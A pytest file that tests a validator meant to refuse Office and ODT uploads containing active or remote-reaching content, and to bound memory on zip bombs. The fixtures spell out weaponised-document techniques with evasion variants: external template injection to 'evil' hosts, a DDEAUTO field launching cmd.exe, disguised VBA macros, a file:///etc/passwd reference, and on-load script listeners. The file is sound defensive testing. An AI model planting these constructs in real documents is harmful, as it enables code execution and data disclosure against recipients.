"""Office documents are read as XML: how a thing is written does not matter, and memory does not follow the size."""

import subprocess
import sys
import zipfile
from io import BytesIO

import pytest
import xlsxwriter

from judging.core.file_types import check
from judging.core.unfit import Unfit
from tests.samples import ODT, a_zip, an_odt, an_office_document

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ODF = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
TEXT = 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'


def related(written):
    """Return a document whose settings are bound to something, written in this way."""
    return an_office_document(**{"word/_rels/settings.xml.rels": written})


def fields(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    start, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return an_office_document(
        **{"word/document.xml": f'<w:document xmlns:w="{WORD}"><w:p>{start}{runs}{end}</w:p></w:document>'}
    )


UNFIT = {
    "attributes in another order": related(
        f'<Relationships xmlns="{RELS}"><Relationship TargetMode="External" Target="http://evil/a.dotm" Id="r" '
        f'Type="{OFFICE}/attachedTemplate"/></Relationships>'
    ),
    "a namespace with a prefix": related(
        f'<p:Relationships xmlns:p="{RELS}"><p:Relationship Id="r" Type="{OFFICE}/image" Target="//evil/a" '
        'TargetMode="External"></p:Relationship></p:Relationships>'
    ),
    "a letter as its number": related(
        f'<Relationships><Relationship Id="r" Type="{OFFICE}/image" Target="http://evil" '
        'TargetMode="&#69;xternal"/></Relationships>'
    ),
    "a hyperlink in a comment": related(
        f'<Relationships><Relationship Id="r" TargetMode="External" Type="{OFFICE}/frame"\n Target="http://e/hyperlink"'
        ' /><!-- Type="x/hyperlink" --></Relationships>'
    ),
    "a hyperlink by name only": related(
        f'<Relationships><Relationship Id="r" Type="{OFFICE}/attachedTemplate" Title="Type=&quot;a/hyperlink&quot;" '
        'TargetMode="External" Target="x"/></Relationships>'
    ),
    "in UTF-16": related(
        f'<?xml version="1.0" encoding="UTF-16"?><Relationships><Relationship Id="r" Type="{STRICT}/attachedTemplate" '
        'TargetMode="External" Target="http://evil"/></Relationships>'.encode("utf-16")
    ),
    "a macro under another name": related(
        '<Relationships><Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="picture.bin"/></Relationships>'
    ),
    "a macro by its type": an_office_document(
        **{
            "[Content_Types].xml": '<Types xmlns="t"><Override PartName="/word/document.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>'
        }
    ),
    "a type in a comment only": a_zip(
        {
            "[Content_Types].xml": "<Types><!-- "
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml --></Types>",
            "word/document.xml": "<w/>",
        }
    ),
    "a field that starts a program": fields(" DDEAUTO c:\\windows\\cmd.exe "),
    "such a field in pieces": fields(" DDE", "AUTO ", "excel x"),
    "a field that fetches": fields(' INCLUDEPICTURE "http://evil/a.png" \\d '),
    "a page of another kind inside": related(
        f'<Relationships><Relationship Id="r" Type="{OFFICE}/aFChunk" Target="page.html"/></Relationships>'
    ),
    "data fetched from elsewhere": an_office_document(
        **{"xl/connections.xml": '<connections><connection><webPr url="http://evil/"/></connection></connections>'}
    ),
    "a document type": an_office_document(**{"word/document.xml": "<!DOCTYPE w><w/>"}),
    "no XML": an_office_document(**{"word/document.xml": "<w><w>"}),
    "an encoding nobody knows": an_office_document(**{"word/document.xml": '<?xml version="1.0" encoding="x-y"?><w/>'}),
    "one endless tag": an_office_document(**{"word/document.xml": f'<w a="{"x" * 5_000_000}"/>'}),
    "very many": an_office_document(**{"word/document.xml": "<w>" + "<a/>" * 1_600_000 + "</w>"}),
    "very deep": an_office_document(**{"word/document.xml": "<w>" * 5000 + "</w>" * 5000}),
}
ODT_UNFIT = {
    "a picture elsewhere": an_odt(**{"content.xml": f'<o {ODF}><draw:image xlink:href="http://evil/a.png"/></o>'}),
    "another prefix": an_odt(
        **{
            "content.xml": f"<o {ODF.replace('draw', 'd').replace('xlink:', 'x:').replace('xmlns:xlink', 'xmlns:x')}>"
            '<d:object x:href="file:///etc/passwd"/></o>'
        }
    ),
    "a listener": an_odt(**{"content.xml": '<o xmlns:s="script"><s:event-listener s:event-name="on-load"/></o>'}),
    "a password": an_odt(**{"META-INF/manifest.xml": '<m xmlns:f="x"><f:encryption-data/></m>'}),
    "a long type": a_zip({"mimetype": ODT + "x", "content.xml": "<o/>"}),
}


def checked(tmp_path, content, ending):
    path = tmp_path / "file"
    path.write_bytes(content)
    return check(path, ending)


@pytest.mark.parametrize(
    ("content", "ending"),
    [pytest.param(one, ".docx", id=name) for name, one in UNFIT.items()]
    + [pytest.param(one, ".odt", id=f"odt: {name}") for name, one in ODT_UNFIT.items()],
)
def test_what_is_active_or_reaches_elsewhere_is_refused_however_it_is_written(tmp_path, content, ending):
    with pytest.raises(Unfit):
        checked(tmp_path, content, ending)


def test_two_parts_of_one_name_are_refused(tmp_path):
    out = BytesIO(an_office_document())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as document:
        document.writestr("word/document.xml", "<w/>")

    with pytest.raises(Unfit):
        checked(tmp_path, out.getvalue(), ".docx")


def a_workbook():
    out = BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("DDE")
        sheet.write_url(0, 0, "https://gmina.example/")
        sheet.write_formula(1, 0, '=HYPERLINK("https://gmina.example/", "LINK") & DDE!A1')
    return out.getvalue()


FIT = {
    "a workbook with links": (a_workbook(), ".xlsx"),
    "a link to be clicked": (fields(' HYPERLINK "https://gmina.example/INCLUDETEXT" '), ".docx"),
    "words about fields": (
        an_office_document(**{"word/document.xml": "<w><t>DDEAUTO vbaProject http://a TargetMode=External</t></w>"}),
        ".docx",
    ),
    "a link in a text document": (
        an_odt(**{"content.xml": f'<o {TEXT}><text:a xlink:href="https://gmina.example/">x</text:a></o>'}),
        ".odt",
    ),
    "a picture inside": (an_odt(**{"content.xml": f'<o {ODF}><draw:image xlink:href="Pictures/1.png"/></o>'}), ".odt"),
}


@pytest.mark.parametrize(("content", "ending"), FIT.values(), ids=FIT)
def test_what_only_looks_so_is_taken(tmp_path, content, ending):
    assert checked(tmp_path, content, ending)


MEASURE = """
import resource, sys
from pathlib import Path
from judging.core.file_types import check
from judging.core.unfit import Unfit
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    check(Path(sys.argv[1]), ".docx")
    print("taken")
except Unfit:
    print("refused")
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


@pytest.mark.parametrize(
    ("part", "megabytes", "outcome"),
    [
        ("word/document.xml", 50, "taken"),
        ("word/document.xml", 190, "refused"),
        ("[Content_Types].xml", 190, "refused"),
    ],
)
def test_a_document_that_unpacks_into_very_much_takes_little_memory(tmp_path, part, megabytes, outcome):
    content = b"<w>" + (b"<t>" + b"a" * 4093 + b"</t>") * (megabytes * 256) + b"</w>"
    path = tmp_path / "a.docx"
    path.write_bytes(an_office_document(**{part: content}))

    measured = subprocess.run([sys.executable, "-c", MEASURE, path], capture_output=True, text=True, check=True)

    said, more = measured.stdout.split()
    assert said == outcome
    assert int(more) < 32  # megabytes
